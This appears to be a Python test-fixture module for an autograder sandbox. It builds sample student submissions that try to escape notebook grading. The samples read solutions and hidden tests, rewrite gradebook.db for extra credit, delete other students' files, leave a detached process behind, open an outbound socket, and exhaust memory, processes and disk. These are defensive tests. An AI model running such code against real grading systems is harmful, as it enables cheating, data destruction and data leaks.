"""Submissions that only the grading sandbox stops (``autograder.sandbox``).

Each is the solution cell of the release's first exercise, written to reach past the
notebook: read the solutions or the reference numbers from disk, import the instructor's
package, change the gradebook, delete other students' files, leave a process behind, open
a socket, exhaust memory, processes or disk, or loop forever. In the sandbox each costs its
own exercise and nothing else: the tests of that exercise fail (whatever the message), every
other test passes, and the other students' grades, feedback and files are the same as in a
run without it. An attack whose code the tamper scan also flags (``exec`` of what it found)
costs its notebook instead: withheld for review (``tampering``). ``ESCAPES`` maps each
case's student id to the function that makes it.
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Callable

from autograder.cells import grade_id_of, is_test
from autograder.examples.submission import Expected, Release, Submission
from autograder.tampering import findings

#: The attacks find the course directory from the kernel's working folder, as a student
#: would: by walking up to the nbgrader config.
COURSE_ROOT = """\
import pathlib as _pathlib


def _course_root():
    here = _pathlib.Path.cwd()
    for folder in (here, *here.parents):
        if (folder / "nbgrader_config.py").exists():
            return folder
    raise FileNotFoundError("no course directory above " + str(here))


"""
#: Where the socket attack sends what it finds (host:port, set by the test that listens).
EXFILTRATE = "VAE_COURSE_EXFILTRATE"

ATTACKS = {
    "read_solution": """\
import json as _json
import runpy as _runpy

for _path in (_course_root() / "solutions").rglob("*.ipynb"):
    for _cell in _json.loads(_path.read_text())["cells"]:
        if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "{grade_id}":
            _found = _pathlib.Path("_solution.py")
            _found.write_text("".join(_cell["source"]))
            globals().update(_runpy.run_path(str(_found), init_globals=globals()))
""",
    "import_instructor": """\
import sys as _sys

_sys.path.insert(0, str(_course_root()))
from autograder.course import Course as _Course
from autograder.examples.submission import Release as _Release
from autograder.reference import bounds as _bounds

_bounds.install()
exec(_Release(_Course(_course_root())).solutions["{grade_id}"])
""",
    "read_reference": """\
import json as _json

for _path in _pathlib.Path.cwd().glob("*.ipynb"):
    for _cell in _json.loads(_path.read_text())["cells"]:
        _source = "".join(_cell["source"])
        if "BEGIN HIDDEN TESTS" in _source:
            print("the hidden test, read by the student's code:", _source)
""",
    "gradebook": """\
import sqlite3 as _sqlite3

for _db in _course_root().rglob("gradebook.db"):
    with _sqlite3.connect(_db) as _connection:
        _connection.execute("UPDATE grade SET extra_credit = 10")
""",
    "delete_others": """\
import shutil as _shutil

_me = _pathlib.Path.cwd().parent.name
for _step in ("submitted", "autograded", "feedback"):
    for _folder in _course_root().rglob(_step):
        for _student in _folder.iterdir():
            if _student.name != _me:
                _shutil.rmtree(_student, ignore_errors=True)
""",
    "lingering_process": """\
import subprocess as _subprocess
import sys as _sys

_later = '''
import pathlib, shutil, sqlite3, sys, time
time.sleep(3)
root = pathlib.Path(sys.argv[1])
for db in root.rglob("gradebook.db"):
    with sqlite3.connect(db) as connection:
        connection.execute("UPDATE grade SET extra_credit = 10")
for folder in root.rglob("feedback"):
    shutil.rmtree(folder, ignore_errors=True)
'''
_subprocess.Popen(
    [_sys.executable, "-c", _later, str(_course_root())],
    start_new_session=True,
    stdout=_subprocess.DEVNULL,
    stderr=_subprocess.DEVNULL,
)
""",
    "socket": """\
import os as _os
import socket as _socket

_host, _port = _os.environ["{exfiltrate}"].split(":")
with _socket.create_connection((_host, int(_port)), timeout=5) as _connection:
    _connection.sendall(b"the grading kernel reached the network")
""",
    "memory": """\
_hoard = bytearray(8 * 2**30)
""",
    "fork_bomb": """\
import os as _os
import time as _time

for _ in range(2000):
    if _os.fork() == 0:
        _time.sleep(2)
        _os._exit(0)
""",
    "disk": """\
with open("filler.bin", "wb") as _file:
    for _ in range(2048):
        _file.write(b"x" * 2**20)
""",
}


def _infinite(release: Release, grade_id: str) -> str:
    """The reference solution of ``grade_id`` with every function body a loop forever."""
    source = release.solutions[grade_id]
    header = re.compile(r"^((?:@.*\n)*def \w+\(.*?\).*?:\n)", re.MULTILINE | re.DOTALL)
    return "".join(f"{head}    while True:\n        pass\n\n\n" for head in header.findall(source))


def first_exercise(release: Release) -> tuple[str, str]:
    """The notebook and grade_id of the release's first code solution cell."""
    for name, nb in release.notebooks.items():
        for cell in nb.cells:
            if cell.cell_type == "code" and grade_id_of(cell) in release.solutions:
                return name, grade_id_of(cell)
    raise ValueError("the release has no code solution cell")


def _escape(attack: str) -> Callable[[Release], tuple[Submission, Expected]]:
    def make(release: Release) -> tuple[Submission, Expected]:
        notebook, grade_id = first_exercise(release)
        if attack == "infinite_loop":
            source = _infinite(release, grade_id)
        else:
            code = ATTACKS[attack].replace("{grade_id}", grade_id)
            source = COURSE_ROOT + code.replace("{exfiltrate}", EXFILTRATE)
        if findings(source):
            verdicts = dict.fromkeys(release.all_cells([notebook]), "tampering")
        else:
            verdicts = dict.fromkeys(_tests_after(release, notebook, grade_id))
        expected = release.expect(
            f"the first exercise's solution cell: {attack.replace('_', ' ')}", verdicts
        )
        return release.solved({grade_id: textwrap.dedent(source)}), expected

    return make


def _tests_after(release: Release, notebook: str, grade_id: str) -> list[tuple[str, str]]:
    """The test cells that follow the solution cell ``grade_id`` up to the next solution
    cell: the tests of that exercise."""
    cells, found, tests = release.notebooks[notebook].cells, False, []
    for cell in cells:
        if grade_id_of(cell) == grade_id:
            found = True
        elif found and grade_id_of(cell) in release.solutions and cell.cell_type == "code":
            break
        elif found and is_test(cell):
            tests.append((notebook, grade_id_of(cell)))
    return tests


#: Case name -> what makes it; every case applies to any release.
ESCAPES: dict[str, Callable[[Release], tuple[Submission, Expected]]] = {
    f"escape_{attack}": _escape(attack) for attack in (*ATTACKS, "infinite_loop")
}
